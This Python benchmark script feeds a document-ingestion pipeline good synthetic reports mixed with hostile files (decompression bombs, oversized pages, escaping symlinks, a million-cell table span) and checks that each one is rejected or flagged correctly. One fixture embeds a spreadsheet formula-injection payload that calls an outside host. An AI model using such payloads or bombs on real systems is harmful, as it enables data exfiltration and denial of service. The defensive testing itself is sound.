"""Soak: an inbox of good reports with hostile files mixed in, against the same inbox without them.

    .venv/bin/python -m benchmarks.soak                  # 1,000 documents, 10 % hostile, 2 workers
    .venv/bin/python -m benchmarks.soak --documents 200  # quicker

The good reports are synthetic text-layer PDFs (tests/fixtures/synthetic.py, cached as the
throughput benchmark caches them). The hostile ones cycle through the kinds of
tests/fixtures/hostile.py, each copy made unique (so none is a duplicate of another): a
14400 pt page, 2,000 blank pages, 30 blank scans, a 4 GiB inflate bomb, 1 GiB behind two
filters (Flate+Flate, ASCIIHex+Flate), a 49 MB web page, a hidden file, a broken link, a link
out of the inbox; plus one each of the reports that load with a flag (a 23-digit number, a
negative count, an agency named as a spreadsheet formula, a table spanning a million cells,
a GBK file name).

Both inboxes go through `xxgk run` end to end, one after the other in this run, each in a
fresh warehouse. Printed: good reports loaded and their cells right, hostile files rejected
with their reasons, peak memory of the process tree against the budget, wall time of the
two side by side.
"""
from __future__ import annotations

import argparse
import os
import re
import shutil
import sys
import tempfile
from collections import Counter
from pathlib import Path

PROJECT_ROOT = Path(__file__).resolve().parents[1]
if str(PROJECT_ROOT) not in sys.path:
    sys.path.insert(0, str(PROJECT_ROOT))

from benchmarks.throughput.cells import check_cells  # noqa: E402
from benchmarks.throughput.common import mb, say  # noqa: E402
from benchmarks.throughput.corpus import corpus  # noqa: E402
from benchmarks.throughput.runs import cleanup, run_end_to_end  # noqa: E402
from tests.fixtures import hostile  # noqa: E402
from xxgk.listing import display_name  # noqa: E402

# kind -> (file suffix, bytes maker, what its rejection reason starts with)
REJECTED_KINDS = {
    "huge_mediabox": (".pdf", hostile.huge_mediabox, "over budget: page 1 (14400x14400 pt)"),
    "blank_pages": (".pdf", lambda: hostile.blank_pages(2000), "over budget: 2000 pages"),
    "white_scans": (".pdf", lambda: hostile.white_scans(30), "PDF of 30 blank page(s)"),
    "inflate_bomb": (".pdf", lambda: hostile.inflate_bomb(4), "over budget: its compressed streams inflate"),
    "big_html": (".html", lambda: hostile.big_html(49), "over budget: "),
    "chain_bomb": (".pdf", lambda: hostile.layered_bomb("flate-flate"), "over budget: its compressed streams inflate"),
    "hex_chain_bomb": (".pdf", lambda: hostile.layered_bomb("hex-flate"), "over budget: its compressed streams inflate"),
    "hidden": (".txt", None, "hidden file"),
    "broken_link": (".pdf", None, "broken link"),
    "outside_link": (".txt", None, "link to "),
}
FLAGGED = {  # hostile, but reports: loaded with their numbers flagged (or under a safe name)
    "absurd.txt": lambda: hostile.with_new_received("12345678901234567890123"),
    "negative.txt": lambda: hostile.with_new_received("-1772", hostile.SAMPLES / "fuxin-taiping-office-2023.txt"),
    # an agency named as a spreadsheet formula: loaded, and exported as text (tests/pipelines/test_export_safety.py)
    "formula.txt": lambda: (hostile.SAMPLES / "qidong-office-2023.txt").read_text(encoding="utf-8").replace(
        "啟東市", "=WEBSERVICE(\"http://x?\"&B2)").replace("启东市", "=WEBSERVICE(\"http://x?\"&B2)"),
    # a table whose cells span a million rows and columns: the grid clamps the spans
    "span_bomb.html": lambda: hostile._report_html(
        (hostile.SAMPLES / "suifenhe-business-env-2023.txt").read_text(encoding="utf-8")).decode("utf-8").replace(
        "</body>", "<table><tr><td colspan=1000000 rowspan=1000000>x</td><td>1</td></tr></table></body>"),
}


def _unique(data: bytes, suffix: str, n: int) -> bytes:
    """The same hostile bytes made distinct (a trailing comment), so each copy is its own file."""
    return data + (f"\n%{n}\n" if suffix == ".pdf" else f"\n<!-- {n} -->\n").encode()


def hostile_files(inbox: Path, outside: Path, count: int) -> dict[str, str]:
    """`count` hostile entries in `inbox`: {file name: kind}."""
    made: dict[str, bytes] = {}
    kinds: dict[str, str] = {}
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "elsewhere.txt").write_text((hostile.SAMPLES / "suifenhe-business-env-2023.txt").read_text(encoding="utf-8"),
                                           encoding="utf-8")
    for name, make in FLAGGED.items():
        (inbox / f"zz-hostile-{name}").write_text(make(), encoding="utf-8")
        kinds[f"zz-hostile-{name}"] = "flagged"
    gbk = os.fsdecode(os.fsencode(str(inbox)) + b"/zz-hostile-" + hostile.GBK_NAME)
    Path(gbk).write_text((hostile.SAMPLES / "lingdong-2023.txt").read_text(encoding="utf-8"), encoding="utf-8")
    kinds[display_name(gbk).rsplit("/", 1)[1]] = "flagged"
    order = list(REJECTED_KINDS)
    for n in range(count - len(kinds)):
        kind = order[n % len(order)]
        suffix, make, _ = REJECTED_KINDS[kind]
        name = f"zz-hostile-{n:03d}-{kind}{suffix}"
        if kind == "hidden":
            name = "." + name
            (inbox / name).write_text(hostile.GOOD_TEXT.read_text(encoding="utf-8"), encoding="utf-8")
        elif kind == "broken_link":
            os.symlink(inbox / f"gone-{n}.pdf", inbox / name)
        elif kind == "outside_link":
            os.symlink(outside / "elsewhere.txt", inbox / name)
        else:
            if kind not in made:
                made[kind] = make()
            (inbox / name).write_bytes(_unique(made[kind], suffix, n))
        kinds[name] = kind
    return kinds


def _warehouse_figures(warehouse: Path) -> tuple[list[tuple], list[tuple], int]:
    import duckdb

    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        rejected = con.execute("SELECT regexp_extract(source_file, '[^/]*$'), reason FROM rejected_document").fetchall()
        loaded = con.execute("""SELECT regexp_extract(d.source_file, '[^/]*$'), r.quality_status FROM fact_report r
                                JOIN dim_document d USING (document_id)""").fetchall()
        implausible = con.execute("SELECT count(*) FROM fact_extraction_warning WHERE kind = 'implausible_value'").fetchone()[0]
    finally:
        con.close()
    return rejected, loaded, implausible


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--documents", type=int, default=1000)
    parser.add_argument("--hostile-share", type=float, default=0.10)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--cache", type=Path, default=Path(tempfile.gettempdir()) / "xxgk-bench-corpus")
    parser.add_argument("--keep", action="store_true", help="keep the runs' folders")
    args = parser.parse_args(argv)

    n_hostile = round(args.documents * args.hostile_share)
    n_good = args.documents - n_hostile
    folder, font = corpus(n_good, args.seed, args.cache)
    root = Path(tempfile.mkdtemp(prefix="xxgk-soak-"))
    clean, mixed = root / "clean", root / "mixed"
    clean.mkdir()
    mixed.mkdir()
    for pdf in sorted((folder / "inbox").glob("*.pdf")):
        os.link(pdf, clean / pdf.name)
        os.link(pdf, mixed / pdf.name)
    kinds = hostile_files(mixed, root / "outside", n_hostile)
    budget_mb = int(os.environ.get("XXGK_WORKER_MEMORY_MB") or 2048)
    say(f"soak: {n_good} good reports ({font}) + {n_hostile} hostile entries "
        f"({', '.join(f'{k}: {v}' for k, v in sorted(Counter(kinds.values()).items()))}); {args.workers} workers")

    runs = {}
    for label, inbox in (("without hostile", clean), ("with hostile", mixed)):
        say(f"run {label}: {inbox} ...")
        runs[label] = run_end_to_end(inbox, args.workers, poll=0.2, keep=args.keep)
        say(f"  {runs[label]['wall_s']:.1f} s, peak tree RSS {mb(runs[label]['tree_rss_peak'])}")

    rejected, loaded, implausible = _warehouse_figures(runs["with hostile"]["warehouse"])
    check = check_cells(runs["with hostile"]["warehouse"], folder / "expected.csv")
    reasons = dict(rejected)
    wrong_reason = []
    for name, kind in kinds.items():
        if kind == "flagged":
            continue
        start = REJECTED_KINDS[kind][2]
        if not reasons.get(name, "").startswith(start):
            wrong_reason.append((name, reasons.get(name)))
    good_loaded = sum(1 for f, _ in loaded if f.startswith("synthetic-"))
    flagged_loaded = sum(1 for f, _ in loaded if f.startswith("zz-hostile-"))
    by_reason = Counter(re.sub(r"\d[\d,.]*", "N", r)[:90] for f, r in rejected if f.lstrip(".").startswith("zz-hostile-"))

    say("\n=== soak figures (one run, side by side) ===")
    say(f"good reports loaded:        {good_loaded} / {n_good}   cells right: {check['loaded_right']:,} / "
        f"{check['loaded_total']:,}  (superseded by design: {check['superseded_cells']} cells)")
    say(f"hostile reports loaded with a flag: {flagged_loaded} / {len(FLAGGED) + 1}   implausible values flagged: {implausible}")
    say(f"hostile entries rejected:   {sum(by_reason.values())} / {n_hostile - len(FLAGGED) - 1}   with the wrong or no reason: "
        f"{len(wrong_reason)}")
    for reason, count in sorted(by_reason.items(), key=lambda x: -x[1]):
        say(f"  {count:>4}  {reason}")
    for name, reason in wrong_reason[:10]:
        say(f"  WRONG {name}: {reason}")
    a, b = runs["without hostile"], runs["with hostile"]
    say(f"wall time:                  {a['wall_s']:.1f} s without, {b['wall_s']:.1f} s with the hostile files: "
        f"{b['wall_s'] / a['wall_s']:.2f}x (target <= 1.5x)")
    say(f"peak tree RSS:              {mb(a['tree_rss_peak'])} without, {mb(b['tree_rss_peak'])} with "
        f"(PSS {mb(a['tree_pss_peak'])} / {mb(b['tree_pss_peak'])})")
    say(f"memory budget:              {budget_mb} MB address space per worker (XXGK_WORKER_MEMORY_MB), "
        f"{args.workers} workers: {budget_mb * args.workers:,} MB of workers")
    biggest = max(b["peak_each"], key=lambda x: x[1], default=None)
    if biggest:
        say(f"  largest process at the peak (with): {biggest[0]} {mb(biggest[1])} RSS")
    other = ", ".join(f"{k} {v:.2f}" for k, v in (("other load, cores (without)", a["other_cores"]),
                                                   ("(with)", b["other_cores"])))
    say(f"machine: {other}")
    for run in runs.values():
        cleanup(run)
    if not args.keep:
        shutil.rmtree(root, ignore_errors=True)
    return 0 if not wrong_reason and good_loaded == n_good else 1


if __name__ == "__main__":
    sys.exit(main())
